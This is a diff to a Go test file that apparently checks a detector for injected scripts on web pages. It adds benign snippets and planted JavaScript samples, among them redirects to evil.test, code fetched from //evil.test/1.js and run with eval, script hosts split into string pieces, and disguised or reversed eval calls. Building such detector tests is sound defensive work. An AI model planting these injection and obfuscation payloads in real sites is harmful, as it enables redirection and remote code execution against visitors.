@@ -35,6 +35,10 @@ func TestBenignScripts(t *testing.T) {
 		"author's comment": "/* Live clock, from http://www.dynamicdrive.example */ var d=new Date(); document.write(\"<small>\"+d.getDate()+\"</small>\")",
 		"old wrapping":     "<!--\n// Script by http://www.javascriptkit.example/\nvar n=1/2; document.write('<b>'+n+'</b>')\n//-->",
 		"slider":           "// http://dev7studios.example/nivo-slider\nvar w='<iframe src=\"/khung.html\"></iframe>'; show(w)",
+		"list of networks": `var m=["https://www.facebook.com","https://zalo.me/portal"];show(m.join("<br>"));`,
+		"download":         `function tai(b){var a=document.createElement("a");a.href=URL.createObjectURL(b);a.download="bang.csv";a.click()}`,
+		"search form":      `document.getElementById("f").onchange=function(){this.form.submit()};`,
+		"counter":          `fetch("/wp-json/dem").then(function(r){return r.json()}).then(function(d){setTimeout(show,100,d)})`,
 		"vector namespace": `var s = document.createElementNS("http://www.w3.org/2000/svg", "svg"); document.body.appendChild(s);`,
 	}
 	c := newCleaner(t, portal(t))
@@ -99,6 +103,17 @@ func TestPlantedScripts(t *testing.T) {
 		{"literal after a comment", `<!-- "
 s.x("//evil.test"); y.z("createElement('script'"); <!-- "`, reasonLoadsScript},
 		{"literal as name", `self["location"]="https://evil.test/"`, reasonLeadsAway},
+		{"subscripts", `window["loc"+"ation"]["repl"+"ace"]("//evil.test/r.html")`, reasonLeadsAway},
+		{"refresh that is made", `m=document.createElement("meta");m.httpEquiv="refresh";m.content="0;url=//evil.test/r.html";document.head.append(m)`, reasonLeadsAway},
+		{"refresh by attributes", `m=document.createElement('meta');m.setAttribute('http-equiv', 'refresh');m.content="0;url=//evil.test/r.html";document.head.append(m)`, reasonLeadsAway},
+		{"link that is clicked", `var a=document.createElement("a");a.href="//evil.test/r.html";document.body.append(a);a.click()`, reasonLeadsAway},
+		{"form that is sent", `f=document.createElement("form");f.action="//evil.test/c";document.body.append(f);f.submit()`, reasonLeadsAway},
+		{"fetched and run", `fetch("//evil.test/1.js").then(r=>r.text()).then(eval)`, reasonLoadsScript},
+		{"fetched as of old", `x=new XMLHttpRequest;x.open("GET","//evil.test/1.js",false);x.send();new Function(x.responseText)()`, reasonLoadsScript},
+		{"list of pieces", `s=document.createElement("script");s.setAttribute("src",["//ev","il.test/1.js"].join(""));document.body.append(s)`, reasonHiddenHost},
+		{"list in a variable", `var p=['/','/evi','l.te','st/1.js'],s=document.createElement("script");s.src=p.join('')`, reasonHiddenHost},
+		{"eval in disguise", `\u0065val("pwn=1")`, reasonDecoder},
+		{"eval of text that is turned round", `eval("1=nwp".split("").reverse().join(""))`, reasonDecoder},
 		{"packer", `eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0 1',2,2,'a|b'.split('|'),0,{}))`, reasonPacked},
 		{"obfuscator", `var _0x1a2b=['\x68\x65','push'];(function(_0x3c,_0x4d){while(!![]){_0x3c['push'](_0x3c['shift']());}}(_0x1a2b,0x1));`, reasonPacked},
 	}
